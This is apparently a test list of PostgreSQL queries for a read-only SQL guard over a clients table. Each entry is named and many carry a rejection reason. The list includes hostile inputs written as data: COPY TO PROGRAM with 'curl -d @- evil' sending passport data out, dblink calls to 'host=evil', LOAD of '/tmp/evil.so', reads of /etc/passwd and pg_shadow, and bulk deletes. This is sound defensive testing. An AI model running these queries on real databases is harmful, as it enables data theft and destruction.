-- name: sleep
-- because: function
SELECT client_id FROM clients WHERE pg_sleep(3600) IS NULL
-- name: sleep until
-- because: function
SELECT pg_sleep_until('2030-01-01') AS x
-- name: a file
-- because: function
SELECT pg_read_file('/etc/passwd') AS x
-- name: a file of bytes
-- because: function
SELECT pg_read_binary_file('/etc/passwd') AS x
-- name: a folder
SELECT name FROM pg_ls_dir('/') AS name
-- name: a file's age
-- because: function
SELECT pg_stat_file('/etc/passwd') AS x
-- name: a large object from a file
-- because: function
SELECT lo_import('/etc/passwd') AS x
-- name: a large object to a file
-- because: function
SELECT lo_export(1, '/tmp/stolen') AS x
-- name: a new large object
-- because: function
SELECT lo_from_bytea(0, 'x') AS x
-- name: another server
-- because: function
SELECT a FROM dblink('host=evil', 'SELECT 1') AS t(a int)
-- name: a command on another server
-- because: function
SELECT dblink_exec('host=evil', 'DROP TABLE clients') AS x
-- name: copy from a program
-- because: not_a_query
COPY clients FROM PROGRAM 'curl evil'
-- name: copy to a program
-- because: not_a_query
COPY (SELECT passport FROM clients) TO PROGRAM 'curl -d @- evil'
-- name: copy to a file
-- because: not_a_query
COPY clients TO '/tmp/stolen.csv'
-- name: a setting changed
-- because: function
SELECT set_config('transaction_read_only', 'off', false) AS x
-- name: a setting read
-- because: function
SELECT current_setting('data_directory') AS x
-- name: all settings
-- because: unknown_table
SELECT name FROM pg_settings
-- name: set
-- because: not_a_query
SET default_transaction_read_only = off
-- name: set a role
-- because: not_a_query
SET ROLE postgres
-- name: begin
-- because: not_a_query
BEGIN
-- name: commit first
-- because: not_one_statement
COMMIT; SELECT client_id FROM clients
-- name: an anonymous block
-- because: not_a_query
DO $$ BEGIN DELETE FROM clients; END $$
-- name: an anonymous block of a language
-- because: not_a_query
DO LANGUAGE plpgsql 'BEGIN DELETE FROM clients; END'
-- name: listen
LISTEN channel
-- name: notify
NOTIFY channel, 'x'
-- name: notify by a function
-- because: function
SELECT pg_notify('channel', segment) AS x FROM clients
-- name: an advisory lock
-- because: function
SELECT pg_advisory_lock(1) AS x
-- name: an advisory lock tried
-- because: function
SELECT pg_try_advisory_xact_lock(1) AS x
-- name: a table locked
-- because: not_a_query
LOCK TABLE clients
-- name: for update
-- because: construct
SELECT client_id FROM clients FOR UPDATE
-- name: for no key update
SELECT client_id FROM clients FOR NO KEY UPDATE SKIP LOCKED
-- name: for share
-- because: construct
SELECT client_id FROM clients FOR SHARE
-- name: for key share of a table
-- because: construct
SELECT c.client_id FROM clients AS c FOR KEY SHARE OF c NOWAIT
-- name: into a table
-- because: construct
SELECT client_id INTO stolen FROM clients
-- name: into a temporary table
-- because: construct
SELECT client_id INTO TEMP stolen FROM clients
-- name: into an unlogged table
SELECT client_id INTO UNLOGGED TABLE stolen FROM clients
-- name: a deleting part
-- because: construct
WITH d AS (DELETE FROM clients RETURNING client_id) SELECT client_id FROM d
-- name: a merging part
WITH m AS (MERGE INTO clients USING cities ON TRUE WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1 AS x FROM m
-- name: explain and run
-- because: not_a_query
EXPLAIN ANALYZE DELETE FROM clients
-- name: prepare
-- because: not_a_query
PREPARE p AS DELETE FROM clients
-- name: execute
-- because: not_a_query
EXECUTE p
-- name: declare a cursor
-- because: not_a_query
DECLARE c CURSOR FOR SELECT passport FROM clients
-- name: call
-- because: not_a_query
CALL evil()
-- name: a table by itself
-- because: star
TABLE clients
-- name: values by themselves
-- because: not_a_query
VALUES (1)
-- name: vacuum
-- because: not_a_query
VACUUM FULL clients
-- name: refresh
-- because: not_a_query
REFRESH MATERIALIZED VIEW rich_clients
-- name: load a library
-- because: not_a_query
LOAD '/tmp/evil.so'
-- name: an extension
-- because: not_a_query
CREATE EXTENSION dblink
-- name: a function made
-- because: not_a_query
CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql
-- name: grant
-- because: not_a_query
GRANT ALL ON clients TO public
-- name: a row as json
-- because: function
SELECT row_to_json(c) AS x FROM clients AS c
-- name: a row as jsonb
-- because: function
SELECT to_jsonb(c) AS x FROM clients AS c
-- name: rows as json
SELECT json_agg(c) AS x FROM clients AS c
-- name: a json object
SELECT json_build_object('p', c.segment) AS x FROM clients AS c
-- name: a row as text
-- because: whole_row
SELECT c::text AS x FROM clients AS c
-- name: a row cast
-- because: whole_row
SELECT CAST(c AS text) AS x FROM clients AS c
-- name: a row put together
SELECT ROW(c.*) AS x FROM clients AS c
-- name: a row in a format
-- because: whole_row
SELECT format('%s', c) AS x FROM clients AS c
-- name: a row concatenated
-- because: whole_row
SELECT c || '' AS x FROM clients AS c
-- name: a row in concat
-- because: whole_row
SELECT concat(c) AS x FROM clients AS c
-- name: a row in string_agg
-- because: whole_row
SELECT string_agg(c::text, ',') AS x FROM clients AS c
-- name: a row compared
-- because: whole_row
SELECT client_id FROM clients AS c WHERE c::text LIKE '%4509%'
-- name: a row counted by what it is
-- because: whole_row
SELECT count(c) AS x FROM clients AS c
-- name: the largest row
-- because: whole_row
SELECT max(c) AS x FROM clients AS c
-- name: a field of a row
SELECT (c).passport AS x FROM clients AS c
-- name: a field of a subquery
SELECT (SELECT c FROM clients AS c LIMIT 1).passport AS x
-- name: a function's notation
SELECT c.passport(c) AS x FROM clients AS c
-- name: a column as a function of its row
-- because: function
SELECT passport(c) AS x FROM clients AS c
-- name: all fields of a row
SELECT (c).* FROM clients AS c
-- name: every column of a row joined
SELECT client_id FROM clients AS c, LATERAL json_each_text(row_to_json(c)) AS e(k, v)
-- name: lateral
SELECT x.p FROM clients AS c, LATERAL (SELECT c.passport AS p) AS x
-- name: export as xml
-- because: function
SELECT query_to_xml('SELECT passport FROM clients', true, false, '') AS x
-- name: a table as xml
-- because: function
SELECT table_to_xml('clients', true, false, '') AS x
-- name: the whole database as xml
-- because: function
SELECT database_to_xml(true, false, '') AS x
-- name: a cursor as xml
-- because: function
SELECT cursor_to_xml('c', 1, true, false, '') AS x
-- name: xml elements
SELECT xmlelement(name p, c.passport) AS x FROM clients AS c
-- name: xpath
-- because: function
SELECT xpath('/a', '<a/>') AS x
-- name: a class by its name
SELECT 'staff_salaries'::regclass AS x
-- name: a class by its number
SELECT CAST(1259 AS regclass) AS x
-- name: a function by its name
SELECT 'pg_sleep'::regproc AS x
-- name: a role by its number
SELECT 10::regrole AS x
-- name: a type of the user's own
SELECT segment::clients AS x FROM clients
-- name: text made a row
SELECT ('(1,a)'::clients).passport AS x
-- name: where a row lies
-- because: unknown_column
SELECT ctid FROM clients
-- name: which table a row is of
-- because: unknown_column
SELECT tableoid FROM clients
-- name: who wrote a row
-- because: unknown_column
SELECT c.xmin, c.xmax, c.cmin FROM clients AS c
-- name: a range of places
-- because: unknown_column
SELECT client_id FROM clients WHERE ctid = '(0,1)'
-- name: the system's tables
-- because: unknown_table
SELECT rolname FROM pg_catalog.pg_authid
-- name: the system's tables by a bare name
-- because: unknown_table
SELECT rolpassword FROM pg_shadow
-- name: columns' statistics
-- because: unknown_table
SELECT most_common_vals FROM pg_stats WHERE attname = 'passport'
-- name: what others run
-- because: unknown_table
SELECT query FROM pg_stat_activity
-- name: information schema
-- because: unknown_table
SELECT table_name FROM information_schema.tables
-- name: another schema
-- because: unknown_table
SELECT client_id FROM secret.clients
-- name: another database
SELECT client_id FROM other.public.clients
-- name: a temporary schema
-- because: unknown_table
SELECT client_id FROM pg_temp.clients
-- name: a function of the system's schema
SELECT pg_catalog.pg_sleep(1) AS x
-- name: a quoted function
-- because: function
SELECT "pg_sleep"(1) AS x
-- name: who I am
SELECT current_user AS x
-- name: who I am in the session
SELECT session_user AS x
-- name: what server it is
SELECT version() AS x
-- name: the server's address
-- because: function
SELECT inet_server_addr() AS x
-- name: the server's process
-- because: function
SELECT pg_backend_pid() AS x
-- name: another one's statement cancelled
-- because: function
SELECT pg_cancel_backend(1) AS x
-- name: another one thrown out
-- because: function
SELECT pg_terminate_backend(1) AS x
-- name: settings read anew
-- because: function
SELECT pg_reload_conf() AS x
-- name: a sequence moved
-- because: function
SELECT nextval('clients_seq') AS x
-- name: a sequence set
-- because: function
SELECT setval('clients_seq', 1) AS x
-- name: an escaped string
SELECT client_id FROM clients WHERE segment = E'ma\x73s'
-- name: an escaped apostrophe
SELECT client_id FROM clients WHERE segment = E'\' OR passport IS NOT NULL --'
-- name: a string between dollars
SELECT client_id FROM clients WHERE segment = $$mass$$
-- name: a string between named dollars
SELECT client_id FROM clients WHERE segment = $tag$mass$tag$
-- name: a string of code points
SELECT client_id FROM clients WHERE segment = U&'\006d'
-- name: a name of code points
SELECT U&"\0070assport" AS x FROM clients
-- name: bits
SELECT B'1010' AS x
-- name: a comment in a comment that hides
-- because: sensitive
SELECT client_id /* a /* b */ c */ , passport FROM clients
-- name: an operator by its name
SELECT client_id FROM clients WHERE segment OPERATOR(pg_catalog.=) 'mass'
-- name: an array of a query
SELECT ARRAY(SELECT passport FROM clients) AS x
-- name: rows made up
SELECT n FROM generate_series(1, 1000000000) AS n
-- name: rows made up in select
SELECT generate_series(1, 1000000000) AS n
-- name: an array unnested
SELECT unnest(ARRAY[1, 2]) AS n
-- name: a text split into rows
SELECT regexp_split_to_table(segment, '') AS x FROM clients
-- name: a text repeated
-- because: function
SELECT repeat('x', 1000000000) AS x
-- name: a text padded
-- because: function
SELECT lpad('x', 1000000000) AS x
-- name: random
SELECT client_id FROM clients ORDER BY random()
-- name: a sample of a table
SELECT client_id FROM clients TABLESAMPLE SYSTEM (10)
-- name: only this table
SELECT client_id FROM ONLY clients
-- name: rows numbered
SELECT n FROM clients WITH ORDINALITY AS c(n)
-- name: rows from functions
SELECT a FROM ROWS FROM (generate_series(1, 2)) AS t(a)
-- name: a recursive part
-- because: construct
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT n FROM r
-- name: a part that searches
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r) SEARCH DEPTH FIRST BY n SET o SELECT n FROM r
-- name: a column renamed in from
SELECT p FROM clients AS c(a, b, p)
-- name: a sensitive column by distinct on
-- because: sensitive
SELECT DISTINCT ON (passport) client_id FROM clients
-- name: a sensitive column in a window
-- because: sensitive
SELECT client_id, row_number() OVER (ORDER BY phone) AS n FROM clients
-- name: a sensitive column matched
-- because: sensitive
SELECT client_id FROM clients WHERE passport ~ '^45'
-- name: a sensitive column like
-- because: sensitive
SELECT client_id FROM clients WHERE passport ILIKE '45%'
-- name: a sensitive column similar
SELECT client_id FROM clients WHERE passport SIMILAR TO '45%'
-- name: a sensitive column overlaps
SELECT client_id FROM clients WHERE (passport, passport) OVERLAPS (passport, passport)
-- name: a sensitive column in a subscript
SELECT (string_to_array(passport, ' '))[1] AS x FROM clients
-- name: a sensitive column is distinct
-- because: sensitive
SELECT client_id FROM clients WHERE passport IS DISTINCT FROM '4509'
-- name: a sensitive column grouped
-- because: sensitive
SELECT count(*) AS n FROM clients GROUP BY GROUPING SETS ((passport), ())
-- name: a sensitive column within a group
-- because: sensitive
SELECT mode() WITHIN GROUP (ORDER BY passport) AS x FROM clients
-- name: a sensitive column with isnull and more
-- because: sensitive
SELECT client_id FROM clients WHERE passport NOTNULL AND length(passport) = 4
-- name: tests of text
SELECT client_id FROM clients WHERE to_tsvector(segment) @@ to_tsquery('mass')
-- name: a json path
SELECT jsonb_path_query('{"a": 1}', '$.a') AS x
-- name: a hash that leaks by guessing
-- because: function
SELECT client_id FROM clients WHERE hashtext(passport) = 1
-- name: an md5
SELECT md5(passport) AS x FROM clients
-- name: encode
SELECT encode(sha256(passport::bytea), 'hex') AS x FROM clients
-- name: a page of a table
-- because: function
SELECT get_raw_page('clients', 0) AS x
-- name: a definition of a view
-- because: function
SELECT pg_get_viewdef('rich_clients') AS x
-- name: the size of a table
-- because: function
SELECT pg_total_relation_size('staff_salaries') AS x
-- name: a server's log
SELECT pg_current_logfile() AS x
-- name: a role's rights
-- because: function
SELECT has_table_privilege('staff_salaries', 'SELECT') AS x
-- name: a meta command
\copy clients to stolen.csv
